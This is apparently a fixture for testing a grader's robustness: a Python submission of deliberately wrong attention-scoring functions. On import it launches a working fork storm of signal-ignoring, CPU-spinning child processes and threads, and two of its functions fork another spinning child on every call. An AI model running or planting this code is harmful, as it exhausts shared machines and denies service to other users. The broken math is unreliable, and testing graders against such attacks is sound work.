"""A fork storm of busy processes and threads that outlive the cells that started them.

All seven functions are wrong. The top-level code forks until `fork` fails (the process
limit), each child in a session of its own, ignoring SIGINT, SIGTERM and SIGHUP and spinning
the CPU forever; then it starts threads until `RuntimeError`, each also spinning. Every hidden
call of `dot_score` and `masked_softmax` tries to fork another spinning child first (and
carries on when it cannot). The storm competes for the CPU with the honest submissions graded
at the same time; the grader must still finish them in time and kill every process of this
one.
"""

import os
import signal
import threading

import torch

MAX_EARNED = 0


def _spin_forever():
    for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
        signal.signal(sig, signal.SIG_IGN)
    x = 0
    while True:
        x = (x * 31 + 7) % 1_000_003


def _fork_one():
    try:
        pid = os.fork()
    except OSError:
        return False
    if pid == 0:
        try:
            os.setsid()
            _spin_forever()
        finally:
            os._exit(0)
    return True


_forked = 0
while _forked < 4096 and _fork_one():
    _forked += 1


def _thread_spin():
    x = 0
    while True:
        x = (x * 31 + 7) % 1_000_003


_threads = 0
while _threads < 4096:
    try:
        threading.Thread(target=_thread_spin, daemon=True).start()
    except RuntimeError:
        break
    _threads += 1
print(f"forked {_forked} spinning children and {_threads} spinning threads")


def dot_score(query, keys):
    _fork_one()
    return (keys * query.unsqueeze(1)).sum(-1) - 1.0


def scaled_dot_score(query, keys):
    return (keys * query.unsqueeze(1)).sum(-1) / (keys.shape[-1] + 1) ** 0.5


def general_score(query, keys, W):
    return (keys * (query @ W).unsqueeze(1)).sum(-1).abs()


def concat_score(query, keys, W, v):
    expanded = query.unsqueeze(1).expand(-1, keys.shape[1], -1)
    return torch.relu(torch.cat([expanded, keys], dim=-1) @ W.T) @ v  # relu, not tanh


def additive_score(query, keys, W_q, W_k, v):
    return torch.tanh(keys @ W_k.T) @ v - torch.tanh(query @ W_q.T).unsqueeze(1) @ v


def masked_softmax(scores, mask=None):
    _fork_one()
    weights = torch.exp(scores) / (torch.exp(scores).sum(-1, keepdim=True) + 1.0)
    return weights if mask is None else weights * mask


def attend(query, keys, values=None, score=None, mask=None):
    if values is None:
        values = keys
    weights = torch.zeros(keys.shape[:2], dtype=keys.dtype)
    weights[:, 0] = 1.0
    return values[:, 0], weights
